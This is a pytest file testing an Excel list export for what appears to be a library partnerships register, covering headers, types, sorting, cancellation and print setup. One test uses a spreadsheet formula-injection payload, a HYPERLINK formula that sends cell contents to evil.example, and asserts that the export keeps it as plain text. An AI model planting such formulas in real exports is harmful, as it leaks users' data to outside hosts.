"""Lists exported to Excel, read back: headers, order, types, filter; hostile and oversized text stays safe."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.exporters.xlsx import CELL_LIMIT, ExportCancelled
from app.models import Agreement, AgreementParty, Funding, Partner
from app.services.registers.list_export import export_list, export_register
from app.services.registers.list_query import ListQuery, select_ids


def read(path: Path) -> tuple[list[str], list[tuple], object]:
    """The header row and the data rows of the first sheet (found below the title lines and a blank line)."""
    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(values_only=True))
    header_at = next(i for i, row in enumerate(rows) if all(v is None for v in row)) + 1
    return list(rows[header_at]), rows[header_at + 1 :], sheet


def header_row(sheet) -> int:  # noqa: ANN001
    """The 1-based row of the header (the first row after the blank line)."""
    for row in range(1, 20):
        if sheet.cell(row=row, column=1).value is None:
            return row + 1
    raise AssertionError("no blank line above the header")


def test_the_export_is_the_list_as_shown_with_real_types(database, load_sample, tmp_path: Path) -> None:  # noqa: ANN001
    load_sample()
    query = ListQuery("agreements", filters={"status": "in_force"}, order=("signed_on", False))
    fields = ["signed_on", "reg_number", "parties", "valid_until"]
    path = tmp_path / "agreements.xlsx"
    result = export_list(query=query, fields=fields, path=path)
    header, rows, sheet = read(path)
    assert header == ["Signed", "Registration number", "Parties", "Valid until"]
    in_force = Agreement.select().where(Agreement.status == "in_force").count()
    assert result.rows == len(rows) == in_force
    signed = [row[0] for row in rows]
    assert all(isinstance(value, dt.datetime) for value in signed)  # a real Excel date, not text
    assert signed == sorted(signed)
    top = header_row(sheet)
    assert sheet.freeze_panes == f"A{top + 1}"
    assert sheet.auto_filter.ref == f"A{top}:D{top + len(rows)}"
    assert sheet.cell(row=top, column=1).font.b
    title_lines = [sheet.cell(row=r, column=1).value for r in range(1, 4)]
    assert title_lines[0] == "Agreements"
    assert "Filter: Status: Signed, in force" in title_lines


def test_numbers_and_money_are_numbers(database, tmp_path: Path) -> None:  # noqa: ANN001
    Funding.create(
        title="Window to America corner", kind="grant", amount=Decimal("12500.50"), currency="USD", status="awarded"
    )
    path = tmp_path / "funding.xlsx"
    export_list(query=ListQuery("funding"), fields=["title", "amount"], path=path)
    header, rows, _sheet = read(path)
    assert header == ["Title", "Amount", "Currency"]
    assert rows == [("Window to America corner", 12500.5, "USD")]


def test_a_formula_looking_name_stays_text_and_odd_text_does_not_crash(database, tmp_path: Path) -> None:  # noqa: ANN001
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Partner.create(name_en=hostile, kind="library")
    Partner.create(name_en="+7 (495) 123-45-67 @home -minus", kind="library")
    Partner.create(name_en="Bell\x07 and\x1b escape\x00 null", kind="library")
    Partner.create(name_en="Long " + "x" * (CELL_LIMIT + 5000), kind="library")
    path = tmp_path / "partners.xlsx"
    result = export_list(query=ListQuery("partners", order=("id", False)), fields=["name"], path=path)
    assert (result.rows, result.cleaned, result.shortened) == (4, 1, 1)
    _header, rows, sheet = read(path)
    names = [row[0] for row in rows]
    assert names[0] == hostile
    first = next(c for c in sheet["A"] if c.value == hostile)
    assert first.data_type == "s"  # text, never a formula
    assert names[1] == "+7 (495) 123-45-67 @home -minus"
    assert names[2] == "Bell  and  escape  null"
    assert len(names[3]) == CELL_LIMIT and names[3].endswith("…")


def test_the_command_line_export_takes_a_search(database, load_sample, sqlite_path: Path, tmp_path: Path) -> None:  # noqa: ANN001
    load_sample()
    path = tmp_path / "korea.xlsx"
    result = export_register("partners", path, search="КОРЕЯ")
    _header, rows, _sheet = read(path)
    assert result.rows == len(rows) == len(select_ids(ListQuery("partners", search="koreya")))
    assert any("Korea" in (row[0] or "") for row in rows)


def test_a_cancelled_export_leaves_no_file(database, tmp_path: Path) -> None:  # noqa: ANN001
    partners = [Partner(name_en=f"Library {i}", kind="library", search_text=f"library {i}") for i in range(1200)]
    Partner.bulk_create(partners, batch_size=500)
    folder = tmp_path / "exports"
    folder.mkdir()
    with pytest.raises(ExportCancelled):
        export_list(
            query=ListQuery("partners"), fields=["name"], path=folder / "cancelled.xlsx", cancelled=lambda: True
        )
    assert list(folder.iterdir()) == []


def test_many_valued_cells_are_joined_in_order(database, tmp_path: Path) -> None:  # noqa: ANN001
    one = Partner.create(name_en="Alpha Library", kind="library", country="KR")
    two = Partner.create(name_en="Beta Library", kind="library", country="JP")
    agreement = Agreement.create(title_en="Trilateral memorandum", kind="mou")
    AgreementParty.create(agreement=agreement, partner=two)
    AgreementParty.create(agreement=agreement, partner=one)
    path = tmp_path / "parties.xlsx"
    export_list(query=ListQuery("agreements"), fields=["title", "parties"], path=path)
    assert read(path)[1] == [("Trilateral memorandum", "Beta Library; Alpha Library")]


def test_the_sheet_prints_landscape_one_page_wide_with_its_header_on_every_page(
    database, load_sample, tmp_path: Path  # noqa: ANN001
) -> None:
    from app.i18n import set_language

    load_sample()
    set_language("ru")
    path = tmp_path / "loans.xlsx"
    export_list(query=ListQuery("loans"), fields=["item_title", "partner", "status"], path=path)
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet.title == "Международный межбиблиотечный"  # cut at a word, within Excel's 31 characters
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    top = header_row(sheet)
    assert sheet.print_title_rows == f"${top}:${top}"
    assert workbook.properties.creator == "Hamkor"
